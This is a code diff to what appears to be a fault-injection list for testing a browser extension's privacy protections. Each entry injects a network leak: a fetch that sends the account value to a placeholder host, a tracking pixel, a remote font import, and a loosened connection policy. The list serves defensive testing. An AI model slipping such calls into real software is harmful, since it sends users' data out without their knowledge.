@@ -70,7 +70,7 @@ export const faults: readonly Fault[] = [
 
   // The network.
   { name: 'a request from the worker', file: 'src/background/reviewer.ts', find: '  const brand = brandFor(brands, account);', instead: "  const brand = brandFor(brands, account);\n  void fetch(`https://a.example/?${account}`);", tests: network },
-  { name: 'a picture that counts', file: 'src/popup/popup.tsx', find: "  const speaks = languageOf(settings);", instead: "  const speaks = languageOf(settings);\n  new Image().src = 'https://a.example/a.gif';", tests: network },
+  { name: 'a picture that counts', file: 'src/popup/popup.tsx', find: "  const { speaks, pages: strings } = words;", instead: "  const { speaks, pages: strings } = words;\n  new Image().src = 'https://a.example/a.gif';", tests: network },
   { name: 'a font from elsewhere', file: 'src/view/page.css', find: '/* Switches */', instead: "@import url('https://a.example/font.css');", tests: network },
   { name: 'a policy that lets connections through', file: 'manifest.json', find: "connect-src 'none'", instead: "connect-src https:", tests: ['test/manifest'] },
 ];
